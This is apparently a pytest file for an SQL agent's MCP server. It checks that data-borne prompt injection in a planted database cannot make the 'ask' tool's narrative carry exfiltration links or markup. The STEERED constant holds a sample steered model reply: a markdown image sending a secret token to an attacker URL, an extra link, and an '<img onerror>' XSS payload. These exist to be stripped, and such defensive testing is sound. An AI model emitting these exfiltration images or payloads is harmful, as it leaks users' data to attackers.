"""Over MCP, hostile data reaches the client only as values: the narrative of ``ask`` carries
no link, image or markup the result does not hold, and no injected instruction is obeyed.
The server runs as a separate ``sqlagent mcp`` process (stdio), the model is the local fake
OpenAI-compatible server."""

from __future__ import annotations

import contextlib
import os
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from hostile_corpus import CANARY, EXFIL_URL, SECRET_TABLE, planted_duckdb

mcp = pytest.importorskip("mcp", reason="the mcp extra is not installed")

from mcp import ClientSession  # noqa: E402
from mcp.client.stdio import StdioServerParameters, stdio_client  # noqa: E402

from sqlagent.testing import FakeOpenAIServer  # noqa: E402

EXE = str(Path(sys.executable).with_name("sqlagent"))
SQL = "SELECT id, name FROM merchants ORDER BY id"
# What a model steered by the data would write: the canary, an image carrying data to the
# attacker, a link, HTML; plus one address that the result itself holds.
STEERED = (
    f"{CANARY}: the merchants. ![x]({EXFIL_URL}?d=top-secret-token) "
    f"[more]({EXFIL_URL}/more) <img src=x onerror=alert(1)> Source: {EXFIL_URL}"
)


def model_reply(request: dict[str, Any]) -> str:
    system = request["messages"][0]["content"]
    if "<result>" in system:
        return STEERED
    return f"```sql\n{SQL}\n```"


@contextlib.asynccontextmanager
async def session(db: Path, model_url: str) -> AsyncIterator[ClientSession]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "SQLAGENT_"))}
    env.update(
        SQLAGENT_HISTORY="off",
        SQLAGENT_HOME=os.environ["SQLAGENT_HOME"],
        OPENAI_BASE_URL=model_url,
        SQLAGENT_MODEL="fake-model",
    )
    params = StdioServerParameters(
        command=EXE,
        args=["mcp", "--db", str(db), "--policy", str(db.parent / "policy.yaml")],
        env=env,
    )
    with open(os.devnull, "w") as errlog:
        async with (
            stdio_client(params, errlog=errlog) as (read, write),
            ClientSession(read, write) as client,
        ):
            await client.initialize()
            yield client


def test_ask_over_mcp_returns_only_grounded_narration(tmp_path: Path) -> None:
    db = tmp_path / "hostile.duckdb"
    planted_duckdb(str(db))
    (tmp_path / "policy.yaml").write_text(f"denied_tables: [{SECRET_TABLE}]\n")

    async def run() -> dict[str, Any]:
        with FakeOpenAIServer([model_reply] * 10) as model:
            async with session(db, model.base_url) as client:
                args = {"question": "List the merchants", "max_rows": 200}
                result = await client.call_tool("ask", args)
                assert not result.is_error, result.content
                assert result.structured_content is not None
                return result.structured_content

    out = anyio.run(run)
    narrative = out["narrative"]
    # The image and the link pointing elsewhere are gone, the HTML too; the address the
    # result holds (a merchant's name carries it) stays, as text.
    assert "?d=" not in narrative and "/more" not in narrative
    assert "![" not in narrative and "<img" not in narrative
    assert narrative.endswith(f"Source: {EXFIL_URL}")
    assert any(EXFIL_URL in str(v) for row in out["rows"] for v in row)
    # The values themselves arrive unchanged, as data.
    assert any("<script>" in str(v) for row in out["rows"] for v in row)
    assert "top-secret-token" not in str(out)
